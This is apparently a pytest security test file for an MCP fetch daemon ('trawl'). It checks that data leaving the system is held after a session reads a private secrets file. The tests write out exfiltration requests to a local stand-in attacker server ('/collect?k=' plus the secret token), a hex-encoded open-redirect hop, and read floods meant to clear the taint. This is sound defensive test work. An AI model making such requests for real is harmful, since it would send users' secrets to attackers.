"""Issue 23, attacks 2 and 5, and who is asked: a flood of reads cannot turn a held exit into a sent one, a redirect
hop to the attacker is held like the first URL, and an MCP client that can ask the user (elicitation) gets the
user's answer: yes sends, no refuses; a client that cannot ask gets exit_held with the way to allow the host.
Real daemon, real sockets, real MCP SDK client."""

from __future__ import annotations

import random
import string
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web
from mcp_types import ElicitResult
from trawl.exitflow import UNBOUND_SESSION, FlowMemory
from trawl.exits import site_of
from trawl.server.runner import RunningDaemon

from tests.integration.test_daemon_helpers import daemon_settings
from tests.security.test_exits import TOKEN, Server, fetch, page, serve
from tests.security.test_exits import attacker as attacker  # the fixture
from tests.security.test_mcp_roots import http_client, out_of

SECRET_FILE = f"# Keys\n\nThe payment API key is {TOKEN} and it must stay private.\n"


async def _serve_on(host: str, handler: Any) -> tuple[web.AppRunner, str]:
    app = web.Application()
    app.router.add_get("/{tail:.*}", handler)
    runner = web.AppRunner(app, access_log=None)
    await runner.setup()
    site = web.TCPSite(runner, host, 0)
    await site.start()
    return runner, f"http://{host}:{runner.addresses[0][1]}"


@pytest.fixture
async def noise() -> AsyncIterator[tuple[list[str], list[str]]]:
    """Six hosts (127.0.0.11-16) whose pages are fresh random tokens and links."""
    hits: list[str] = []

    async def handle(request: web.Request) -> web.Response:
        hits.append(str(request.url))
        rng = random.Random(str(request.url))
        words = " ".join("".join(rng.choices(string.ascii_letters + string.digits, k=14)) for _ in range(150))
        links = " ".join(f"http://{request.host}/p/{rng.getrandbits(64):x}" for _ in range(40))
        return web.Response(text=page("Chapter", f"<p>{words}</p><p>See {links}</p>"), content_type="text/html")

    runners, bases = [], []
    for n in range(11, 17):
        runner, base = await _serve_on(f"127.0.0.{n}", handle)
        runners.append(runner)
        bases.append(base)
    yield bases, hits
    for r in runners:
        await r.cleanup()


async def test_a_flood_of_reads_cannot_turn_a_held_exit_into_a_sent_one(tmp_path: Path, attacker: Server,
                                                                        noise: tuple[list[str], list[str]]) -> None:
    bases, _hits = noise
    (tmp_path / "secrets.md").write_text(SECRET_FILE)
    # The worst case: the flood's hosts count as public pages and are even on the user's allow list, so the
    # session may read them after its private read.
    hosts = tuple(b.split("//")[1].split(":")[0] for b in bases)
    settings = daemon_settings(tmp_path, allow_private_hosts=True, exit_public_hosts=hosts, exit_allow_hosts=hosts)
    async with RunningDaemon(settings, warm=False) as d:
        assert (await fetch(d, str(tmp_path / "secrets.md")))["ok"]
        first = await fetch(d, f"{attacker.url}/collect?k={TOKEN}")
        assert first["error"]["code"] == "exit_held", first
        for i in range(2):
            for base in bases:
                body = await fetch(d, f"{base}/chapter/{i}", query="chapter")
                assert body["ok"], body
        # The flow fact is one bit per session: no amount of reading clears it (the content store may churn).
        assert d.state.services.extras["exit_guard"].flow.session(UNBOUND_SESSION).private  # no session named
        for url in (f"{attacker.url}/collect?k={TOKEN}", f"{attacker.url}/collect?k={TOKEN[::-1]}"):
            again = await fetch(d, url)
            assert again["error"]["code"] == "exit_held", again
    assert attacker.hits == []


def test_sessions_pushed_out_of_memory_stay_tainted(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A bounded session table: a tainted session pushed out by new ones comes back tainted; when even the record
    of those fills, every new session starts tainted (overflow counts as having read private content)."""
    import trawl.exitflow as ef

    monkeypatch.setattr(ef, "MAX_SESSIONS", 4)
    monkeypatch.setattr(ef, "MAX_TAINTED_DIGESTS", 3)
    mem = FlowMemory(daemon_settings(tmp_path), site_of)
    mem.session("victim").taint("it read private content: a local file", "file:")
    for n in range(10):
        mem.session(f"flood-{n}")
    assert mem.session("victim").private
    for n in range(10):
        mem.session(f"t-{n}").taint("private", "file:")
        for m in range(5):
            mem.session(f"f-{n}-{m}")
    assert mem.session("never-seen").private.startswith("the daemon's session memory overflowed")


async def test_a_redirect_hop_to_the_attacker_is_held(tmp_path: Path, attacker: Server) -> None:
    """Attack 5: a path-style open redirect on an allowed host (``/r/<host>/<path>``) passed the data on. The target
    is written in hex here: a host written in the URL as it is is held before the first request (nested hosts
    without a scheme, test_exit_review4.py), and this test is about the hop."""
    site = Server("")

    async def redirect(request: web.Request) -> web.Response:
        site.hits.append(str(request.rel_url))
        target, _, rest = request.path_qs.removeprefix("/r/").partition("/")
        raise web.HTTPFound(f"http://{bytes.fromhex(target).decode()}/{rest}")

    runner, port = await serve("127.0.0.1", redirect)
    (tmp_path / "secrets.md").write_text(SECRET_FILE)
    settings = daemon_settings(tmp_path, allow_private_hosts=True, exit_allow_hosts=("localhost",))
    try:
        async with RunningDaemon(settings, warm=False) as d:
            assert (await fetch(d, str(tmp_path / "secrets.md")))["ok"]
            hop = attacker.url.removeprefix("http://").encode().hex()
            body = await fetch(d, f"http://localhost:{port}/r/{hop}/c?k={TOKEN[::-1]}")
            assert body["ok"] is False and body["error"]["code"] == "exit_held", body
            assert site.hits and site.hits[0].startswith("/r/")  # the allowed host was asked...
            assert attacker.hits == []  # ...and the hop it answered with was never requested
    finally:
        await runner.cleanup()


# ------------------------------------------------------------------------------------------- asking the user
def _answering(action: str, send: bool = True) -> Any:
    asked: list[str] = []

    async def elicit(_ctx: Any, params: Any) -> ElicitResult:
        asked.append(str(params.message))
        return ElicitResult(action=action, content={"send": send} if action == "accept" else None)  # type: ignore[arg-type]

    elicit.asked = asked  # type: ignore[attr-defined]
    return elicit


@pytest.fixture
async def mcp_daemon(tmp_path: Path) -> AsyncIterator[RunningDaemon]:
    (tmp_path / "secrets.md").write_text(SECRET_FILE)
    settings = daemon_settings(tmp_path, allow_private_hosts=True, file_roots=(str(tmp_path),))
    async with RunningDaemon(settings, warm=False) as d:
        yield d


async def _private_read_then(d: RunningDaemon, tmp_path: Path, url: str, **kw: Any) -> Any:
    async with http_client(d, **kw) as c:
        read = out_of(await c.call_tool("fetch_page", {"url": str(tmp_path / "secrets.md"), "query": ""}))
        assert read.ok, read
        return out_of(await c.call_tool("fetch_page", {"url": url, "query": "thanks"}))


@pytest.mark.parametrize(("action", "send", "sent"), [("accept", True, True), ("accept", False, False),
                                                      ("decline", True, False)])
async def test_the_user_is_asked_through_mcp_elicitation(mcp_daemon: RunningDaemon, tmp_path: Path,
                                                         attacker: Server, action: str, send: bool,
                                                         sent: bool) -> None:
    elicit = _answering(action, send)
    out = await _private_read_then(mcp_daemon, tmp_path, f"{attacker.url}/collect?k={TOKEN}",
                                   elicitation_callback=elicit)
    assert len(elicit.asked) == 1 and "127.0.0.1" in elicit.asked[0] and TOKEN not in elicit.asked[0]
    if sent:
        assert out.ok, out
        assert attacker.hits == [f"/collect?k={TOKEN}"]
    else:
        assert not out.ok and out.error is not None and out.error.code == "exit_refused", out
        assert attacker.hits == []


async def test_a_client_that_cannot_ask_gets_exit_held_with_the_hint(mcp_daemon: RunningDaemon, tmp_path: Path,
                                                                     attacker: Server) -> None:
    out = await _private_read_then(mcp_daemon, tmp_path, f"{attacker.url}/collect?k={TOKEN[::-1]}")
    assert not out.ok and out.error is not None and out.error.code == "exit_held", out
    assert out.error.hint and "TRAWL_EXIT_ALLOW_HOSTS" in out.error.hint
    assert attacker.hits == []
